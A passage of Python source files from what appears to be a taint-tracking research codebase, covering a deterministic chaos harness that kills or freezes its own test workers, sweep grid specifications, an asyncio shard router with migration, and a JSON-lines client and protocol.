splitmix64 streams, decides per ``(cell, attempt)`` whether the worker
evaluating that attempt is killed (SIGKILL mid-cell), hung (SIGSTOP —
the whole process freezes, heartbeats stop, the lease expires), or made
to raise (a deterministic in-cell exception, the poison-cell path).

Decisions are pure functions of ``(seed, mode, cell, attempt)``:
re-running the same grid with the same chaos spec kills the same
attempts, so the chaos CI job and the resilience benchmark are
reproducible.  The harness is injected worker-side
(:meth:`ChaosInjector.run`) so death happens *inside* the evaluation —
after the cell was claimed and leased, before its result is shipped —
exercising exactly the requeue path a real crash takes.

Modes (comma-separated in one spec):

* ``kill-workers:P`` — with probability P per attempt, SIGKILL the
  worker partway into the cell;
* ``hang-workers:P`` — SIGSTOP the worker mid-cell (lease-expiry path;
  the supervisor SIGKILLs the frozen process);
* ``fail-cells:P`` — raise ``ChaosFailure`` from the evaluation (the
  retry-then-poison path, no process death).
"""

from __future__ import annotations

import os
import signal
import threading
from dataclasses import dataclass
from typing import Dict, Optional

from repro.core.faults import chance64

#: splitmix64 stream ids per chaos mode (frozen: changing them changes
#: every seeded chaos schedule).
_STREAMS: Dict[str, int] = {
    "kill-workers": 201,
    "hang-workers": 202,
    "fail-cells": 203,
}

#: How far into the cell the kill/hang lands, as a fraction of this many
#: seconds — enough for the attempt to be visibly mid-evaluation without
#: stretching test wall time.
_MID_CELL_DELAY = 0.05


class ChaosError(ValueError):
    """The chaos spec cannot be parsed."""


class ChaosFailure(RuntimeError):
    """Deterministic in-cell failure injected by ``fail-cells``."""


@dataclass(frozen=True)
class ChaosPlan:
    """Parsed, seeded chaos schedule (picklable; crosses into workers)."""

    kill_rate: float = 0.0
    hang_rate: float = 0.0
    fail_rate: float = 0.0
    seed: int = 0

    @classmethod
    def parse(cls, spec: Optional[str], seed: int = 0) -> "ChaosPlan":
        """Parse ``"kill-workers:0.2,fail-cells:1"`` into a plan."""
        rates = {"kill-workers": 0.0, "hang-workers": 0.0, "fail-cells": 0.0}
        for part in (spec or "").split(","):
            part = part.strip()
            if not part:
                continue
            mode, _, raw = part.partition(":")
            mode = mode.strip()
            if mode not in rates:
                raise ChaosError(
                    f"unknown chaos mode {mode!r}; "
                    f"known: {', '.join(sorted(rates))}"
                )
            try:
                rate = float(raw)
            except ValueError:
                raise ChaosError(
                    f"bad chaos rate {raw!r} in {part!r}"
                ) from None
            if not 0.0 <= rate <= 1.0:
                raise ChaosError(f"chaos rate must be in [0, 1], got {rate}")
            rates[mode] = rate
        return cls(
            kill_rate=rates["kill-workers"],
            hang_rate=rates["hang-workers"],
            fail_rate=rates["fail-cells"],
            seed=seed,
        )

    @property
    def enabled(self) -> bool:
        return self.kill_rate > 0 or self.hang_rate > 0 or self.fail_rate > 0

    def decision(self, cell_index: int, attempt: int) -> Optional[str]:
        """The fate of this (cell, attempt): 'kill', 'hang', 'fail', None.

        Modes draw from independent splitmix64 streams; when several
        fire, the deadlier one wins (kill > hang > fail) so raising one
        rate never *removes* deaths scheduled by another.
        """
        ordinal = cell_index * 1_000_003 + attempt
        if self.kill_rate > 0 and (
            chance64(self.seed, _STREAMS["kill-workers"], ordinal)
            < self.kill_rate
        ):
            return "kill"
        if self.hang_rate > 0 and (
            chance64(self.seed, _STREAMS["hang-workers"], ordinal)
            < self.hang_rate
        ):
            return "hang"
        if self.fail_rate > 0 and (
            chance64(self.seed, _STREAMS["fail-cells"], ordinal)
            < self.fail_rate
        ):
            return "fail"
        return None

    def as_payload(self) -> dict:
        return {
            "kill_rate": self.kill_rate,
            "hang_rate": self.hang_rate,
            "fail_rate": self.fail_rate,
            "seed": self.seed,
        }

    @classmethod
    def from_payload(cls, payload: Optional[dict]) -> Optional["ChaosPlan"]:
        if not payload:
            return None
        plan = cls(**payload)
        return plan if plan.enabled else None


class ChaosInjector:
    """Worker-side executor that applies a plan's decision to one attempt."""

    def __init__(self, plan: ChaosPlan) -> None:
        self.plan = plan

    def run(self, cell_index: int, attempt: int, evaluate):
        """Evaluate the cell under this attempt's chaos decision.

        ``evaluate`` is a zero-argument callable producing the cell
        result.  On a ``kill``/``hang`` decision the evaluation runs on
        a scratch thread while the main thread delivers the signal a
        deterministic fraction into the cell — the process dies (or
        freezes) genuinely mid-evaluation, and no result is ever
        shipped for that attempt even if the evaluation happened to
        finish first (the requeued attempt recomputes the identical
        result, so the grid stays bit-exact).
        """
        fate = self.plan.decision(cell_index, attempt)
        if fate is None:
            return evaluate()
        if fate == "fail":
            raise ChaosFailure(
                f"chaos fail-cells: cell {cell_index} attempt {attempt}"
            )
        delay = _MID_CELL_DELAY * chance64(
            self.plan.seed, 299, cell_index * 1_000_003 + attempt
        )
        worker = threading.Thread(target=_swallow(evaluate), daemon=True)
        worker.start()
        worker.join(timeout=delay)
        if fate == "hang":
            # Freeze the whole process (heartbeat threads included) so
            # the parent sees the lease expire, SIGKILLs us, requeues.
            os.kill(os.getpid(), signal.SIGSTOP)
            # If anything ever SIGCONTs us, die rather than double-ship.
        os.kill(os.getpid(), signal.SIGKILL)
        raise AssertionError("unreachable: SIGKILL did not take")  # pragma: no cover


def _swallow(evaluate):
    """Run ``evaluate`` discarding result and errors (doomed attempt)."""

    def run() -> None:
        try:
            evaluate()
        except Exception:
            pass

    return run

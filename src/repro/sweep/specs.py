"""Pickle-safe work specifications for the parallel sweep engine.

A sweep is a declarative grid of *cells*.  Each :class:`SweepCell` names
everything a worker process needs to evaluate one experiment point —
``(PIFTConfig, fault site + rate, seed, taint-state backend, suites)`` —
using only plain data, so cells cross process boundaries by pickle and a
cell evaluated in a pool worker is bit-identical to the same cell
evaluated inline.

Taint-state backends are referenced *by name* (``state_spec``) and
resolved through a registry, because factory callables like a configured
``BoundedRangeCache`` lambda would not survive pickling.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, Optional, Tuple

from repro.core.config import PIFTConfig
from repro.core.faults import FaultRates
from repro.core.ranges import RangeSet
from repro.core.taint_storage import paper_default_storage
from repro.core.tracker import StateFactory

_MASK64 = (1 << 64) - 1

#: Named taint-state backends a cell may request.  Extend with
#: :func:`register_state_factory`; keys travel through pickle, factories
#: never do.
STATE_FACTORIES: Dict[str, Callable[[], StateFactory]] = {
    "rangeset": lambda: RangeSet,
    "paper_storage": lambda: paper_default_storage,
}


def register_state_factory(
    name: str, factory_builder: Callable[[], StateFactory]
) -> None:
    """Register a named taint-state backend for sweep cells."""
    STATE_FACTORIES[name] = factory_builder


def resolve_state_factory(name: str) -> StateFactory:
    """Look a ``state_spec`` up in the registry (raises on unknown names)."""
    try:
        return STATE_FACTORIES[name]()
    except KeyError:
        raise ValueError(
            f"unknown state_spec {name!r}; known: {sorted(STATE_FACTORIES)}"
        ) from None


def derive_seed(base_seed: int, index: int) -> int:
    """Deterministic per-cell seed: a splitmix64-style mix of (base, index).

    Distinct cells get decorrelated seeds while the whole grid stays a
    pure function of ``base_seed`` — re-running a sweep (serial or
    parallel, any worker count) reproduces every cell bit-for-bit.
    """
    x = (
        base_seed * 0x9E3779B97F4A7C15 + (index + 1) * 0xBF58476D1CE4E5B9
    ) & _MASK64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _MASK64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _MASK64
    return (x ^ (x >> 31)) & _MASK64


@dataclass(frozen=True)
class SweepCell:
    """One experiment point, fully specified by plain picklable data."""

    index: int
    config: PIFTConfig
    rate: float = 0.0
    site: str = "event_loss"
    seed: int = 1
    base_rates: Optional[FaultRates] = None
    state_spec: str = "rangeset"
    droidbench: bool = True
    malware: bool = False
    #: Run the coloured attribution pass (per-source provenance) on top
    #: of the verdict replay.  Attribution never changes verdicts — the
    #: union projection is byte-identical — so a colour-on cell's
    #: accuracy payload equals the colour-off cell's.
    colours: bool = False

    def key(self) -> Tuple:
        """Stable identity of the cell (used for result bookkeeping).

        The ``colours`` marker is appended *only when set*, so journals
        written before the flag existed still fingerprint-match their
        (colour-off) grids.
        """
        base = (
            self.config.window_size,
            self.config.max_propagations,
            self.config.untainting,
            self.site,
            self.rate,
            self.seed,
            self.state_spec,
        )
        return base + ("colours",) if self.colours else base


@dataclass(frozen=True)
class GridSpec:
    """A declarative ``(NI, NT) × fault-rate`` grid, expanded to cells.

    Cells are yielded row-major over ``propagation_caps`` (rows), then
    ``window_sizes`` (columns), then ``rates`` — the same orientation as
    :class:`repro.analysis.accuracy.AccuracyGrid`.

    ``seed_policy`` chooses how per-cell fault seeds derive from ``seed``:

    * ``"shared"`` (default) — every cell uses the same seed, preserving
      the common-random-numbers coupling that keeps degradation curves
      smooth across rates;
    * ``"per_cell"`` — each cell gets :func:`derive_seed(seed, index)`,
      for experiments that want independent draws per cell.
    """

    window_sizes: Tuple[int, ...]
    propagation_caps: Tuple[int, ...]
    rates: Tuple[float, ...] = (0.0,)
    site: str = "event_loss"
    untainting: bool = True
    seed: int = 1
    seed_policy: str = "shared"
    base_rates: Optional[FaultRates] = None
    state_spec: str = "rangeset"
    droidbench: bool = True
    malware: bool = False
    #: Thread per-source provenance attribution into every cell (see
    #: :attr:`SweepCell.colours`).
    colours: bool = False
    #: Execution-strategy flag threaded into every cell's PIFTConfig;
    #: results are bit-identical either way (the CLI's --no-vectorized
    #: escape hatch flips it off for A/B timing runs).
    vectorized: bool = True

    def __post_init__(self) -> None:
        if self.seed_policy not in ("shared", "per_cell"):
            raise ValueError(
                f"seed_policy must be 'shared' or 'per_cell', "
                f"got {self.seed_policy!r}"
            )
        if not self.window_sizes or not self.propagation_caps:
            raise ValueError("grid axes must be non-empty")

    def __len__(self) -> int:
        return (
            len(self.window_sizes)
            * len(self.propagation_caps)
            * len(self.rates)
        )

    def cells(self) -> Iterator[SweepCell]:
        index = 0
        for cap in self.propagation_caps:
            for window in self.window_sizes:
                config = PIFTConfig(
                    window_size=window,
                    max_propagations=cap,
                    untainting=self.untainting,
                    vectorized=self.vectorized,
                )
                for rate in self.rates:
                    seed = (
                        self.seed
                        if self.seed_policy == "shared"
                        else derive_seed(self.seed, index)
                    )
                    yield SweepCell(
                        index=index,
                        config=config,
                        rate=rate,
                        site=self.site,
                        seed=seed,
                        base_rates=self.base_rates,
                        state_spec=self.state_spec,
                        droidbench=self.droidbench,
                        malware=self.malware,
                        colours=self.colours,
                    )
                    index += 1

"""Shard routing: placement, drain workers, backpressure, migration.

The daemon's state plane.  A :class:`ShardRouter` owns every live
:class:`~repro.serve.shard.TrackerShard`, assigns each new ``(device,
pid)`` key to a :class:`ShardWorker` (round-robin placement), and keeps
the per-device verdict log the query API serves.

Workers are the *decoupled tracking engines* of the PIFT story: each is
an asyncio task that drains its shards' FIFOs in batches while the
connection handlers keep reading sockets.  Everything runs on one event
loop, so "worker" here is an ownership + scheduling unit (the thing a
shard migrates *between*), not an OS thread — the state-plane contract
(snapshot / restore / parked keys) is exactly what a multi-process
deployment would need, which is why the fleet harness can prove
migration is verdict-invisible.

Backpressure is watermark-driven read-pause: every shard's
:class:`~repro.core.buffered.BufferedPIFT` gets an ``on_backpressure``
hook that clears the shard's *writability gate* when the FIFO crosses
its high watermark.  Connection handlers ``await`` that gate before
reading more frames for the shard, so a slow tracker propagates as TCP
backpressure to the device instead of silent loss.  (Under a drop
policy the gate still pauses reads; forced drops only happen when the
device keeps pushing within one already-read frame.)

Migration ("drain" in the admin vocabulary) parks the key, snapshots
the shard — FIFO contents included, nothing is flushed first — and
removes it.  ``restore`` revives the shard on any worker and wakes every
handler parked on the key.  Between the two, frames for the key wait;
order is preserved, so verdicts are bit-identical to an unmigrated run.
"""

from __future__ import annotations

import asyncio
from typing import Dict, List, Optional

from repro.core.config import OverflowPolicy, PIFTConfig
from repro.serve.shard import ShardError, ShardKey, TrackerShard


class ShardWorker:
    """One drain engine: owns a set of shard keys and a drain task."""

    def __init__(self, worker_id: int, drain_batch: int) -> None:
        self.id = worker_id
        self.drain_batch = drain_batch
        self.keys: set = set()
        self.wake = asyncio.Event()
        self.alive = True
        self.events_drained = 0
        self.drain_passes = 0
        self._task: Optional[asyncio.Task] = None

    def start(self, router: "ShardRouter") -> None:
        self._task = asyncio.get_running_loop().create_task(
            self._run(router), name=f"pift-shard-worker-{self.id}"
        )

    async def stop(self) -> None:
        self.alive = False
        self.wake.set()
        if self._task is not None:
            await self._task
            self._task = None

    async def _run(self, router: "ShardRouter") -> None:
        """Drain owned shards until stopped; sleep when everything is dry."""
        while self.alive:
            self.wake.clear()
            progressed = self._drain_pass(router)
            if progressed:
                # Yield to the readers between passes so ingest and
                # tracking interleave instead of starving each other.
                await asyncio.sleep(0)
            elif self.alive and not self.wake.is_set():
                await self.wake.wait()

    def _drain_pass(self, router: "ShardRouter") -> bool:
        progressed = False
        for key in list(self.keys):
            shard = router.shards.get(key)
            if shard is None or not shard.queue_depth:
                continue
            self.events_drained += shard.drain(self.drain_batch)
            progressed = True
        if progressed:
            self.drain_passes += 1
        return progressed


class ShardRouter:
    """Key -> shard placement, verdict log, and the migration verbs."""

    def __init__(
        self,
        config: PIFTConfig,
        workers: int = 2,
        capacity: int = 1024,
        drain_batch: int = 256,
        policy: OverflowPolicy = OverflowPolicy.BLOCK,
        high_watermark: Optional[int] = None,
        low_watermark: Optional[int] = None,
        coloured: bool = False,
        telemetry=None,
    ) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        self.config = config
        self.capacity = capacity
        self.drain_batch = drain_batch
        self.policy = policy
        self.high_watermark = high_watermark
        self.low_watermark = low_watermark
        self.coloured = coloured
        self.telemetry = telemetry
        self.shards: Dict[ShardKey, TrackerShard] = {}
        self.workers: List[ShardWorker] = [
            ShardWorker(i, drain_batch) for i in range(workers)
        ]
        self.placement: Dict[ShardKey, int] = {}
        self.migrations = 0
        self._next_worker = 0
        self._gates: Dict[ShardKey, asyncio.Event] = {}
        self._parked: Dict[ShardKey, asyncio.Event] = {}
        self._verdicts: Dict[str, List[dict]] = {}
        self._started = False

    # -- lifecycle -------------------------------------------------------

    async def start(self) -> None:
        for worker in self.workers:
            worker.start(self)
        self._started = True

    async def stop(self) -> None:
        for worker in self.workers:
            await worker.stop()
        self._started = False

    # -- placement and lookup -------------------------------------------

    def _live_workers(self) -> List[ShardWorker]:
        alive = [w for w in self.workers if w.alive]
        if not alive:
            raise ShardError("no live shard workers")
        return alive

    def _place(self, key: ShardKey, worker_id: Optional[int] = None) -> int:
        alive = self._live_workers()
        if worker_id is None:
            worker = alive[self._next_worker % len(alive)]
            self._next_worker += 1
        else:
            worker = next((w for w in alive if w.id == worker_id), None)
            if worker is None:
                raise ShardError(f"no live worker {worker_id}")
        worker.keys.add(key)
        self.placement[key] = worker.id
        return worker.id

    def _build_shard(self, key: ShardKey) -> TrackerShard:
        return TrackerShard(
            key,
            self.config,
            capacity=self.capacity,
            drain_batch=self.drain_batch,
            policy=self.policy,
            high_watermark=self.high_watermark,
            low_watermark=self.low_watermark,
            coloured=self.coloured,
            telemetry=self.telemetry,
            on_backpressure=self._on_backpressure,
        )

    async def shard_for(self, device: str, pid: int) -> TrackerShard:
        """The live shard for ``(device, pid)``; waits out a migration."""
        key: ShardKey = (device, pid)
        while True:
            parked = self._parked.get(key)
            if parked is not None:
                await parked.wait()
                continue
            shard = self.shards.get(key)
            if shard is not None:
                return shard
            shard = self._build_shard(key)
            self.shards[key] = shard
            self._gates[key] = asyncio.Event()
            self._gates[key].set()
            self._place(key)
            return shard

    def notify_ingest(self, shard: TrackerShard) -> None:
        """Wake the owning worker after events were enqueued."""
        worker_id = self.placement.get(shard.key)
        if worker_id is not None:
            self.workers[worker_id].wake.set()

    # -- backpressure ----------------------------------------------------

    def _on_backpressure(self, shard: TrackerShard, engaged: bool) -> None:
        gate = self._gates.get(shard.key)
        if gate is None:
            return
        if engaged:
            gate.clear()
            self.notify_ingest(shard)  # the drainer is the way out
        else:
            gate.set()

    async def wait_writable(self, shard: TrackerShard) -> None:
        """Block (pausing the caller's socket reads) while engaged."""
        gate = self._gates.get(shard.key)
        if gate is not None and not gate.is_set():
            self.notify_ingest(shard)
            await gate.wait()

    # -- verdict log (query API) ----------------------------------------

    def record_verdict(self, device: str, verdict: dict) -> None:
        self._verdicts.setdefault(device, []).append(verdict)

    def device_verdicts(self, device: str) -> List[dict]:
        return list(self._verdicts.get(device, ()))

    def device_attribution(self, device: str) -> List[dict]:
        """Colour -> sink-hit fold over the device's verdict log."""
        hits: Dict[str, dict] = {}
        order: List[str] = []
        for verdict in self._verdicts.get(device, ()):
            for colour in verdict.get("colours") or ():
                if colour not in hits:
                    hits[colour] = {"colour": colour, "sink_hits": 0,
                                    "channels": set()}
                    order.append(colour)
                hits[colour]["sink_hits"] += 1
                hits[colour]["channels"].add(verdict.get("channel", ""))
        return [
            {
                "colour": colour,
                "sink_hits": hits[colour]["sink_hits"],
                "channels": sorted(hits[colour]["channels"]),
            }
            for colour in order
        ]

    def devices(self) -> List[str]:
        names = set(self._verdicts)
        names.update(device for device, _pid in self.shards)
        names.update(device for device, _pid in self._parked)
        return sorted(names)

    # -- reset (next run / app restart) ---------------------------------

    def reset_device(self, device: str) -> int:
        """Drop the device's shards (verdict log is kept).  Parked shards
        cannot be reset — a migration is in flight; finish it first."""
        keys = [key for key in self.shards if key[0] == device]
        for key in keys:
            if key in self._parked:
                raise ShardError(
                    f"shard {key[0]}/{key[1]} is parked mid-migration"
                )
        for key in keys:
            self._remove(key)
        return len(keys)

    def _remove(self, key: ShardKey) -> None:
        self.shards.pop(key, None)
        self._gates.pop(key, None)
        worker_id = self.placement.pop(key, None)
        if worker_id is not None:
            self.workers[worker_id].keys.discard(key)

    # -- migration (the PR 2 snapshot machinery, live) -------------------

    def drain_shard(self, device: str, pid: int) -> dict:
        """Snapshot + park ``(device, pid)``; returns the snapshot.

        Nothing is flushed first: the FIFO travels inside the snapshot,
        so the migrated shard resumes from the exact byte the donor
        stopped at.  Until :meth:`restore_shard`, frames for the key
        wait on the parked event.
        """
        key: ShardKey = (device, pid)
        shard = self.shards.get(key)
        if shard is None:
            raise ShardError(f"no live shard {device}/{pid}")
        snapshot = shard.snapshot()
        self._parked[key] = asyncio.Event()
        # Release any reader paused on the backpressure gate before the
        # gate is dropped — it will re-park on the key, and the restored
        # shard's gate re-engages if the FIFO is still above watermark.
        gate = self._gates.get(key)
        if gate is not None:
            gate.set()
        self._remove(key)
        return snapshot

    def restore_shard(
        self, snapshot: dict, worker_id: Optional[int] = None
    ) -> int:
        """Revive a drained shard (optionally on a named worker)."""
        key: ShardKey = (
            str(snapshot.get("device")), int(snapshot.get("pid", 0))
        )
        if key in self.shards:
            raise ShardError(f"shard {key[0]}/{key[1]} is already live")
        shard = self._build_shard(key)
        shard.restore(snapshot)
        self.shards[key] = shard
        gate = asyncio.Event()
        # Re-derive the gate from the restored FIFO depth: the snapshot
        # carries the backpressure flag, and a paused reader must stay
        # paused until the new worker drains below the low watermark.
        if not shard.backpressure:
            gate.set()
        self._gates[key] = gate
        placed = self._place(key, worker_id)
        self.migrations += 1
        parked = self._parked.pop(key, None)
        if parked is not None:
            parked.set()
        self.notify_ingest(shard)
        return placed

    async def stop_worker(self, worker_id: int) -> List[ShardKey]:
        """Kill one worker, migrating its shards to the survivors.

        The chaos verb the fleet harness leans on: drains every shard the
        worker owns (snapshot + park), stops the drain task, then
        restores each shard on the remaining workers — mid-stream, with
        readers waiting on the parked keys, and bit-identical verdicts
        after.
        """
        worker = next((w for w in self.workers if w.id == worker_id), None)
        if worker is None or not worker.alive:
            raise ShardError(f"no live worker {worker_id}")
        if len(self._live_workers()) < 2:
            raise ShardError("cannot stop the last live worker")
        keys = sorted(worker.keys)
        snapshots = [self.drain_shard(device, pid) for device, pid in keys]
        await worker.stop()
        for snapshot in snapshots:
            self.restore_shard(snapshot)
        return keys

    # -- accounting ------------------------------------------------------

    def stats(self) -> dict:
        return {
            "shards": len(self.shards),
            "parked": len(self._parked),
            "devices": len(self.devices()),
            "migrations": self.migrations,
            "coloured": self.coloured,
            "events_ingested": sum(
                s.events_ingested for s in self.shards.values()
            ),
            "checks_answered": sum(
                s.checks_answered for s in self.shards.values()
            ),
            "queue_depth": sum(s.queue_depth for s in self.shards.values()),
            "backpressure_engagements": sum(
                s.buffered.stats.backpressure_engagements
                for s in self.shards.values()
            ),
            "forced_drops": sum(
                s.buffered.stats.forced_drops for s in self.shards.values()
            ),
            "workers": [
                {
                    "id": worker.id,
                    "alive": worker.alive,
                    "shards": len(worker.keys),
                    "events_drained": worker.events_drained,
                    "drain_passes": worker.drain_passes,
                }
                for worker in self.workers
            ],
        }

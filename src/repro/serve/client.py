"""Client side of the serve protocol: device streams and admin verbs.

:class:`DeviceClient` is what a simulated device runs: connect, say
hello, stream a recorded run as frames (sources / event chunks / checks
in replay-plan order), and collect the verdict stream.  The protocol is
strictly request-driven on the client side — only ``hello``, ``check``,
``reset`` and ``end`` have replies — so one reader loop and zero
out-of-band state cover it.

:class:`AdminClient` wraps the management verbs.  ``drain`` returns the
shard snapshot *over the wire* and ``restore`` sends it back — the fleet
harness round-trips a snapshot through an admin connection mid-stream,
which is the strongest form of the migration claim: the checkpoint that
crossed the network is the one the verdicts must survive.
"""

from __future__ import annotations

import asyncio
from typing import Callable, List, Optional

from repro.android.device import RecordedRun
from repro.serve import protocol

__all__ = ["DeviceClient", "AdminClient", "ServeClientError", "open_connection"]


class ServeClientError(RuntimeError):
    """An error frame (or protocol breach) from the daemon."""


async def open_connection(
    host: Optional[str] = None,
    port: Optional[int] = None,
    unix_path: Optional[str] = None,
):
    """``(reader, writer)`` over TCP or a unix socket (one of the two)."""
    if unix_path is not None:
        return await asyncio.open_unix_connection(
            unix_path, limit=16 * 1024 * 1024
        )
    if host is None or port is None:
        raise ValueError("need host+port or unix_path")
    return await asyncio.open_connection(host, port, limit=16 * 1024 * 1024)


class _Connection:
    """Shared frame plumbing for the device and admin clients."""

    def __init__(self, reader: asyncio.StreamReader,
                 writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer

    async def send(self, frame: dict) -> None:
        self._writer.write(protocol.encode_frame(frame))
        await self._writer.drain()

    async def recv(self) -> dict:
        line = await self._reader.readline()
        if not line:
            raise ServeClientError("connection closed by daemon")
        frame = protocol.decode_frame(line)
        if frame.get("op") == "error":
            raise ServeClientError(str(frame.get("error")))
        return frame

    async def request(self, frame: dict, expect: str) -> dict:
        await self.send(frame)
        reply = await self.recv()
        if reply.get("op") != expect:
            raise ServeClientError(
                f"expected {expect!r} reply, got {reply.get('op')!r}"
            )
        return reply

    async def close(self) -> None:
        self._writer.close()
        try:
            await self._writer.wait_closed()
        except (ConnectionError, BrokenPipeError):  # pragma: no cover
            pass


class DeviceClient(_Connection):
    """One simulated device: a handshaken ingestion connection."""

    def __init__(self, reader, writer, device: str,
                 colours: bool = False) -> None:
        super().__init__(reader, writer)
        self.device = device
        self.colours = colours
        self.frames_sent = 0
        self.events_sent = 0

    @classmethod
    async def connect(
        cls,
        device: str,
        host: Optional[str] = None,
        port: Optional[int] = None,
        unix_path: Optional[str] = None,
        colours: bool = False,
    ) -> "DeviceClient":
        reader, writer = await open_connection(host, port, unix_path)
        client = cls(reader, writer, device, colours=colours)
        await client.request(
            protocol.hello_frame(device, colours=colours), "welcome"
        )
        return client

    async def stream_run(
        self,
        recorded: RecordedRun,
        chunk: int = protocol.DEFAULT_CHUNK,
        after_frame: Optional[Callable[[int, dict], "asyncio.Future"]] = None,
    ) -> List[dict]:
        """Stream one recorded run; returns its verdicts in check order.

        ``after_frame(i, frame)`` (an async callable) is awaited after
        frame ``i`` has been sent and its reply (if any) consumed — the
        hook the fleet harness uses to fire a mid-stream migration at a
        chosen point while this device keeps streaming.
        """
        verdicts: List[dict] = []
        for i, frame in enumerate(protocol.run_to_frames(recorded, chunk)):
            op = frame["op"]
            if op == "check":
                reply = await self.request(frame, "verdict")
                verdicts.append(reply)
            else:
                await self.send(frame)
                if op == "events":
                    self.events_sent += len(frame["starts"])
            self.frames_sent += 1
            if after_frame is not None:
                await after_frame(i, frame)
        return verdicts

    async def reset(self) -> int:
        """Drop this device's shards (between runs); returns the count."""
        reply = await self.request({"op": "reset"}, "ack")
        return int(reply.get("reset", 0))

    async def end(self) -> dict:
        """Close the stream politely; returns the daemon's summary."""
        reply = await self.request({"op": "end"}, "bye")
        await self.close()
        return reply


class AdminClient(_Connection):
    """Management verbs over an ordinary protocol connection."""

    @classmethod
    async def connect(
        cls,
        host: Optional[str] = None,
        port: Optional[int] = None,
        unix_path: Optional[str] = None,
    ) -> "AdminClient":
        reader, writer = await open_connection(host, port, unix_path)
        return cls(reader, writer)

    async def query(self, device: str) -> dict:
        return await self.request(
            {"op": "query", "device": device}, "query_result"
        )

    async def stats(self) -> dict:
        return await self.request({"op": "stats"}, "stats_result")

    async def drain(self, device: str, pid: int) -> dict:
        """Park ``(device, pid)`` and bring its snapshot home."""
        reply = await self.request(
            {"op": "drain", "device": device, "pid": pid}, "drained"
        )
        return reply["snapshot"]

    async def restore(
        self, snapshot: dict, worker: Optional[int] = None
    ) -> int:
        frame = {"op": "restore", "snapshot": snapshot}
        if worker is not None:
            frame["worker"] = worker
        reply = await self.request(frame, "restored")
        return int(reply["worker"])

    async def migrate(
        self, device: str, pid: int, worker: Optional[int] = None
    ) -> int:
        """Server-side drain+restore (snapshot never leaves the daemon)."""
        frame = {"op": "migrate", "device": device, "pid": pid}
        if worker is not None:
            frame["worker"] = worker
        reply = await self.request(frame, "migrated")
        return int(reply["worker"])

    async def stop_worker(self, worker: int) -> List[tuple]:
        """Kill a drain worker; its shards migrate to the survivors."""
        reply = await self.request(
            {"op": "stop_worker", "worker": worker}, "worker_stopped"
        )
        return [tuple(key) for key in reply.get("migrated", ())]

    async def shutdown(self) -> None:
        await self.request({"op": "shutdown"}, "ack")
        await self.close()

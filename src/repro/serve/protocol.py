"""The `repro serve` wire protocol — newline-delimited JSON frames.

One frame per line, UTF-8 JSON with an ``op`` discriminator.  The format
is deliberately boring: every frame is independently parseable, a stream
is debuggable with ``nc``/``socat`` + a JSON pretty-printer, and the
device side needs nothing beyond a socket and ``json.dumps``.

Device-side ops (one connection == one device stream):

* ``hello``   — handshake; names the device and negotiates colours.
* ``source``  — a source registration (optionally colour-labelled).
* ``events``  — a *chunk* of memory events in the tracefile column
  encoding (kinds as an ``l``/``s`` string, parallel ``starts`` /
  ``sizes`` / ``indices`` / ``pids`` arrays).  Chunking is the streaming
  unit: a device never has to materialise its whole trace.
* ``check``   — a sink check; the server answers with a ``verdict``.
* ``reset``   — drop the device's shards (app restart / next run).
* ``end``     — end of stream; the server answers with a summary.

Admin/query ops (any connection):

* ``query``   — per-device verdict log + colour attribution.
* ``stats``   — server-wide shard/ingest accounting.
* ``drain``   — snapshot a shard and park it (the migration primitive).
* ``restore`` — revive a parked shard from a snapshot, on any worker.
* ``migrate`` — server-side drain + restore to another worker.
* ``shutdown``— stop the daemon.

:func:`run_to_frames` turns a :class:`~repro.android.device.RecordedRun`
into the canonical frame sequence.  It walks the *replay plan* — the
same config-independent segmentation batch replay uses
(:func:`repro.analysis.replay.replay_plan_for`) — so sources, events,
and checks interleave in exactly the order the batch path drains them.
That shared ordering is what makes the fleet parity claim well-defined:
the verdict stream a device receives lines up 1:1 with the
``sink_outcomes`` list of a batch replay of the same run.
"""

from __future__ import annotations

import json
from typing import Dict, Iterator, List, Optional

from repro.analysis.replay import replay_plan_for, source_colour
from repro.android.device import RecordedRun
from repro.core.events import AccessKind, MemoryAccess
from repro.core.ranges import AddressRange

PROTOCOL_VERSION = 1

#: Default events per ``events`` frame — the chunk a device buffers at
#: most.  Small enough to stream, large enough to amortise JSON cost.
DEFAULT_CHUNK = 512


class ProtocolError(ValueError):
    """A frame that cannot be parsed or violates the protocol."""


def encode_frame(frame: dict) -> bytes:
    """One frame -> one newline-terminated JSON line (compact, sorted)."""
    return json.dumps(
        frame, sort_keys=True, separators=(",", ":")
    ).encode("utf-8") + b"\n"


def decode_frame(line: bytes) -> dict:
    """Inverse of :func:`encode_frame`; raises :class:`ProtocolError`."""
    try:
        frame = json.loads(line.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as error:
        raise ProtocolError(f"unparseable frame: {error}") from error
    if not isinstance(frame, dict) or "op" not in frame:
        raise ProtocolError("frame is not an object with an 'op' key")
    return frame


def hello_frame(device: str, colours: bool = False) -> dict:
    return {
        "op": "hello",
        "device": device,
        "version": PROTOCOL_VERSION,
        "colours": colours,
    }


def source_frame(source) -> dict:
    """A :class:`~repro.android.device.SourceRegistration` as a frame.

    The colour rides along unconditionally (defaulting to the source
    name, mirroring :func:`repro.analysis.replay.source_colour`); the
    server ignores it on a plain (colour-free) daemon.
    """
    return {
        "op": "source",
        "start": source.address_range.start,
        "size": source.address_range.size,
        "index": source.instruction_index,
        "name": source.source_name,
        "pid": source.pid,
        "colour": source_colour(source),
    }


def check_frame(check) -> dict:
    """A :class:`~repro.android.device.SinkCheck` as a frame."""
    return {
        "op": "check",
        "start": check.address_range.start,
        "size": check.address_range.size,
        "index": check.instruction_index,
        "sink": check.sink_name,
        "channel": check.channel,
        "pid": check.pid,
    }


def events_frame(events: List[MemoryAccess]) -> dict:
    """A chunk of memory events in the tracefile column encoding."""
    return {
        "op": "events",
        "kinds": "".join("l" if e.is_load else "s" for e in events),
        "starts": [e.address_range.start for e in events],
        "sizes": [e.address_range.size for e in events],
        "indices": [e.instruction_index for e in events],
        "pids": [e.pid for e in events],
    }


def decode_events(frame: dict) -> Iterator[MemoryAccess]:
    """Rebuild the :class:`MemoryAccess` stream of an ``events`` frame."""
    try:
        kinds = frame["kinds"]
        starts = frame["starts"]
        sizes = frame["sizes"]
        indices = frame["indices"]
        pids = frame["pids"]
    except KeyError as error:
